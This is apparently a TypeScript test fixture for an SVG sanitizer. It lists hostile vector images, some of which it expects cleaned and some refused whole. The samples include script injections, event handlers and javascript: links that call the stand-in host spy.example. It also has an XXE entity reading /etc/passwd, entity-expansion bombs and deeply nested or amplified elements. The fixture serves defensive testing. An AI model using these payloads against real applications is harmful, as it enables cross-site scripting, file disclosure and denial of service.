/** A malicious vector image. */
export interface HostileSVG {
  what: string
  markup: string
}

const attack = "new Image().src = 'https://spy.example/executed'"
const spy = 'https://spy.example'
const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
const svg = (content: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" ${xlink} viewBox="0 0 10 10" ${attributes}>${content}<rect width="9" height="9"/></svg>`
const html = 'xmlns="http://www.w3.org/1999/xhtml"'
const quoted = attack.replaceAll("'", '&apos;')

const scripts: Record<string, string> = {
  'a script': `<script>${attack}</script>`,
  'a script in CDATA': `<script><![CDATA[${attack}]]></script>`,
  'a script with a prefix': `<s:script xmlns:s="http://www.w3.org/2000/svg">${attack}</s:script>`,
  'a script of HTML': `<script ${html}>${attack}</script>`,
  'a script from elsewhere': `<script href="${spy}/a.js"/>`,
  'a script by xlink': `<script xlink:href="${spy}/a.js"/>`,
  'a script as data': `<script href="data:text/javascript,${quoted}"/>`,
  'a script in a group': `<g><g><script>${attack}</script></g></g>`,
  'a script in definitions': `<defs><script>${attack}</script></defs>`,
  'a script in a symbol that is used': `<symbol id="s"><script>${attack}</script></symbol><use href="#s"/>`,
  'a script in a title': `<title><script>${attack}</script></title>`,
  'a script in a description': `<desc><script ${html}>${attack}</script></desc>`,
  'a script in a text': `<text><script>${attack}</script></text>`,
  'a script in a style': `<style><script>${attack}</script></style>`,
  'a script of another type': `<script type="module">${attack}</script>`,
  'a script with another name space': `<script xmlns="">${attack}</script>`,
  'a handler element': `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${attack}</handler>`,
  'a listener element': `<listener event="load" handler="#h"/>`,
}

const handlers: Record<string, string> = Object.fromEntries(
  [
    'onload',
    'onbegin',
    'onclick',
    'onerror',
    'onmouseover',
    'onfocusin',
    'onanimationstart',
    'onresize',
    'ONLOAD',
    'onLoad',
    'onpointerenter',
    'onend',
  ].map(name => [`a handler ${name}`, `<g ${name}="${quoted}"><circle r="5" ${name}="${quoted}"/></g>`]),
)

const foreign: Record<string, string> = {
  'a foreign document': `<foreignObject width="9" height="9"><body ${html}><script>${attack}</script></body></foreignObject>`,
  'a foreign frame': `<foreignObject><iframe ${html} src="javascript:${quoted}"/></foreignObject>`,
  'a foreign frame with content': `<foreignObject><iframe ${html} srcdoc="&lt;script>${quoted}&lt;/script>"/></foreignObject>`,
  'a foreign image': `<foreignObject><img ${html} src="x" onerror="${quoted}"/></foreignObject>`,
  'a foreign object': `<foreignObject><object ${html} data="${spy}/a"/></foreignObject>`,
  'a foreign embed': `<foreignObject><embed ${html} src="${spy}/a"/></foreignObject>`,
  'a foreign form': `<foreignObject><form ${html} action="${spy}"><input autofocus="" onfocus="${quoted}"/></form></foreignObject>`,
  'a foreign style sheet': `<foreignObject><link ${html} rel="stylesheet" href="${spy}/a.css"/></foreignObject>`,
  'a foreign refresh': `<foreignObject><meta ${html} http-equiv="refresh" content="0;url=${spy}"/></foreignObject>`,
  'a foreign base': `<foreignObject><base ${html} href="${spy}/"/></foreignObject>`,
  'an HTML image beside SVG': `<img ${html} src="${spy}/a.png"/>`,
  'an HTML style sheet beside SVG': `<link ${html} rel="stylesheet" href="${spy}/a.css"/>`,
  'an HTML video': `<video ${html} src="${spy}/a.mp4" autoplay=""/>`,
  'a frame of HTML': `<iframe ${html} src="${spy}"/>`,
  'a foreign object by prefix': `<x:foreignObject xmlns:x="http://www.w3.org/2000/svg"><body ${html} onload="${quoted}"/></x:foreignObject>`,
  'mathematics with a link': `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${quoted}"><mi>x</mi></math>`,
  'an audio element of SVG': `<audio xlink:href="${spy}/a.mp3"/>`,
  'a tuner of XBL': `<binding xmlns="http://www.mozilla.org/xbl"><implementation><constructor>${attack}</constructor></implementation></binding>`,
}

const references: Record<string, string> = {
  'an image from elsewhere': `<image href="${spy}/a.png" width="9" height="9"/>`,
  'an image by xlink': `<image xlink:href="${spy}/a.png" width="9" height="9"/>`,
  'an image as data': '<image href="data:image/svg+xml,&lt;svg/>" width="9" height="9"/>',
  'use of another file': `<use href="${spy}/a.svg#x"/>`,
  'use of another file by xlink': `<use xlink:href="${spy}/a.svg#x"/>`,
  'use of data': `<use href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' id='x'/>#x"/>`,
  'use of a page here': '<use href="/api/ximblox/user#x"/>',
  'a link with a script': `<a href="javascript:${quoted}"><rect width="9" height="9"/></a>`,
  'a link by xlink with a script': `<a xlink:href="javascript:${quoted}"><text y="9">x</text></a>`,
  'a link with a script in capitals': `<a href=" JaVaScRiPt:${quoted}"><text y="9">x</text></a>`,
  'a link with a broken scheme': `<a href="java&#10;script:${quoted}"><text y="9">x</text></a>`,
  'a gradient from elsewhere': `<linearGradient id="g" href="${spy}/a.svg#g"/><rect fill="url(#g)"/>`,
  'a fill from elsewhere': `<rect fill="url(${spy}/a.svg#g)" width="9" height="9"/>`,
  'a fill in quotes': `<rect fill="url('${spy}/a.svg#g')" width="9" height="9"/>`,
  'a filter from elsewhere': `<rect filter="url(${spy}/a.svg#f)" width="9" height="9"/>`,
  'a mask from elsewhere': `<rect mask="url(${spy}/a.svg#m)" width="9" height="9"/>`,
  'a clip path from elsewhere': `<rect clip-path="url(//spy.example/a.svg#m)" width="9" height="9"/>`,
  'a marker from elsewhere': `<path d="M0 0L9 9" marker-end="url(${spy}/a.svg#m)"/>`,
  'a cursor from elsewhere': `<rect cursor="url(${spy}/a.cur), auto" width="9" height="9"/>`,
  'a filter image': `<filter id="f"><feImage href="${spy}/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  'a text path elsewhere': `<text><textPath href="${spy}/a.svg#p">x</textPath></text>`,
  'a colour profile': `<color-profile name="c" xlink:href="${spy}/a.icc"/>`,
  'a font face': `<font-face><font-face-src><font-face-uri href="${spy}/a.svg#f"/></font-face-src></font-face>`,
  'a base address': `<g xml:base="${spy}/"><use href="a.svg#x"/></g>`,
  'a second reference after a good one': `<rect fill="url(#g) url(${spy}/a)" width="9" height="9"/>`,
  'an escaped function': `<rect fill="u\\72l(${spy}/a.svg#g)" width="9" height="9"/>`,
  'an image set': `<rect fill="image-set('${spy}/a.png' 1x)" width="9" height="9"/>`,
  'a source function': `<rect fill="src('${spy}/a.svg')" width="9" height="9"/>`,
}

const styles: Record<string, string> = {
  'an import': `<style>@import url("${spy}/a.css");</style>`,
  'an import without url': `<style>@import "${spy}/a.css";</style>`,
  'a font from elsewhere': `<style>@font-face { font-family: x; src: url(${spy}/a.woff2) } text { font-family: x }</style><text y="9">x</text>`,
  'a background': `<style>svg { background: url(${spy}/a.png) }</style>`,
  'a fill in a style sheet': `<style>rect { fill: url(${spy}/a.svg#g) }</style>`,
  'an escaped url': `<style>rect { fill: u\\000072l(${spy}/a.svg#g) }</style>`,
  'a comment inside url': `<style>rect { fill: ur/**/l(${spy}/a.svg#g) }</style>`,
  'an import in CDATA': `<style><![CDATA[@import url(${spy}/a.css);]]></style>`,
  'a rule inside a rule': `<style>@media all { rect { fill: url(${spy}/a#g) } }</style>`,
  'a selector that reads attributes': `<style>rect[id^="a"] { fill: url(${spy}/a#g) }</style>`,
  'a variable': `<style>svg { --x: url(${spy}/a#g) } rect { fill: var(--x) }</style>`,
  'a style attribute with url': `<rect style="fill: url(${spy}/a#g); background-image: url(${spy}/b)" width="9" height="9"/>`,
  'a style attribute with content': `<rect style="content: url(${spy}/b); list-style: url(${spy}/c)" width="9" height="9"/>`,
  'a binding': `<rect style="-moz-binding: url(${spy}/b#x)" width="9" height="9"/>`,
  'a behaviour': '<rect style="behavior: url(#x); width: expression(alert(1))" width="9" height="9"/>',
  'a style that ends the document': '<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>',
  'a style of HTML': `<style ${html}>@import "${spy}/a.css";</style>`,
}

const animations: Record<string, string> = {
  'an animation of a link': `<a id="l"><animate attributeName="href" to="javascript:${quoted}" begin="0s"/><text y="9">x</text></a>`,
  'a set of a link': `<a><set attributeName="xlink:href" to="javascript:${quoted}"/><text y="9">x</text></a>`,
  'an animation with a handler': `<animate attributeName="x" dur="1s" onbegin="${quoted}"/>`,
  'a set of a handler': `<rect><set attributeName="onload" to="${quoted}"/></rect>`,
  'an animation of an image': `<use><animate attributeName="href" values="${spy}/a.svg#x" begin="0s"/></use>`,
  'an animated transform with a handler': `<animateTransform attributeName="transform" onend="${quoted}" dur="1ms"/>`,
  'an animated motion along elsewhere': `<animateMotion dur="1s"><mpath href="${spy}/a.svg#p"/></animateMotion>`,
}

/** Images that are accepted without what is hostile in them. */
export const cleanedSVGs: readonly HostileSVG[] = [
  ...Object.entries({ ...scripts, ...handlers, ...foreign, ...references, ...styles, ...animations }).map(
    ([what, content]) => ({ what, markup: svg(content) }),
  ),
  { what: 'a handler of the root', markup: svg('', `onload="${quoted}" onunload="${quoted}"`) },
  { what: 'a style of the root', markup: svg('', `style="background: url(${spy}/a.png)"`) },
  {
    what: 'a style sheet beside the root',
    markup: `<?xml version="1.0"?><?xml-stylesheet href="${spy}/a.css" type="text/css"?>${svg('')}`,
  },
  {
    what: 'a transformation beside the root',
    markup: `<?xml-stylesheet href="${spy}/a.xsl" type="text/xsl"?>${svg('')}`,
  },
  {
    what: 'a document type from elsewhere',
    markup: `<!DOCTYPE svg PUBLIC "x" "${spy}/a.dtd" [<!ENTITY % p SYSTEM "${spy}/p">%p;]>${svg('')}`,
  },
  {
    what: 'an entity that is a script',
    markup: `<!DOCTYPE svg [<!ENTITY x "javascript:alert(1)">]>${svg('<a href="&x;"><g/></a>')}`,
  },
  { what: 'a comment with a script', markup: svg(`<!-- --><script>${attack}</script><!-- -->`) },
  {
    what: 'a text that looks like a script',
    markup: svg(`<text y="9">&lt;script>${attack}&lt;/script></text>`),
  },
  { what: 'a title that ends in quotes', markup: svg('<title>"/>&lt;script>alert(1)&lt;/script></title>') },
]

const nested = (levels: number) =>
  [...Array(levels).keys()]
    .map(level => `<g id="u${level + 1}">${`<use href="#u${level}"/>`.repeat(10)}</g>`)
    .join('')

/** Files that are refused as a whole. */
export const refusedSVGs: readonly HostileSVG[] = [
  {
    what: 'an entity from a file',
    markup: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  },
  {
    what: 'entities in entities',
    markup: `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}">]>${svg('<text>&b;</text>')}`,
  },
  {
    what: 'an entity with an element',
    markup: `<!DOCTYPE svg [<!ENTITY x "<script>${attack}</script>">]>${svg('&x;')}`,
  },
  {
    what: 'a long entity very often',
    markup: `<!DOCTYPE svg [<!ENTITY x "${'x'.repeat(200)}">]>${svg(`<text>${'&x;'.repeat(9_999)}</text>`)}`,
  },
  { what: 'an unknown entity', markup: svg('<text>&nbsp;</text>') },
  { what: 'a page', markup: `<html ${html}><body><script>${attack}</script></body></html>` },
  { what: 'a page without XML', markup: `<!doctype html><script>${attack}</script>` },
  { what: 'a root of another name space', markup: '<svg viewBox="0 0 9 9"><script/></svg>' },
  {
    what: 'an element that is never closed',
    markup: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><g>',
  },
  { what: 'two roots', markup: svg('') + svg('') },
  { what: 'nothing', markup: '' },
  { what: 'another encoding', markup: `\u{feff}<?xml version="1.0" encoding="utf-8"?>\0${svg('')}` },
  { what: 'uses of uses', markup: svg(`<g id="u0"><rect/></g>${nested(6)}<use href="#u6"/>`) },
  {
    what: 'patterns of patterns',
    markup: svg(
      [...Array(6).keys()]
        .map(
          level =>
            `<pattern id="p${level + 1}">${`<rect width="1" height="1" fill="url(#p${level})"/>`.repeat(10)}</pattern>`,
        )
        .join('') + '<rect fill="url(#p6)"/>',
    ),
  },
  {
    what: 'masks by a style sheet',
    markup: svg(`<style>g { mask: url(#m) }</style><mask id="m"><g><g/></g></mask><g/>`),
  },
  { what: 'a use of itself', markup: svg('<g id="a"><use href="#a"/></g>') },
  { what: 'elements in elements', markup: svg('<g>'.repeat(5_000) + '</g>'.repeat(5_000)) },
  { what: 'very many elements', markup: svg('<g/>'.repeat(30_000)) },
  {
    what: 'very many filters',
    markup: svg(`<filter id="f">${'<feGaussianBlur stdDeviation="99"/>'.repeat(99)}</filter>`),
  },
  { what: 'very many bytes', markup: svg(`<path d="${'M0 0'.repeat(600_000)}"/>`) },
  {
    what: 'a marker at every point',
    markup: svg(
      `<marker id="m">${'<rect/>'.repeat(100)}</marker><path marker-mid="url(#m)" d="${'L1 1'.repeat(5_000)}"/>`,
    ),
  },
  {
    what: 'a chain of uses',
    markup: svg(
      [...Array(5_000).keys()]
        .map(at => `<g id="u${at + 1}"><use href="#u${at}"/></g>`)
        .toReversed()
        .join(''),
    ),
  },
]
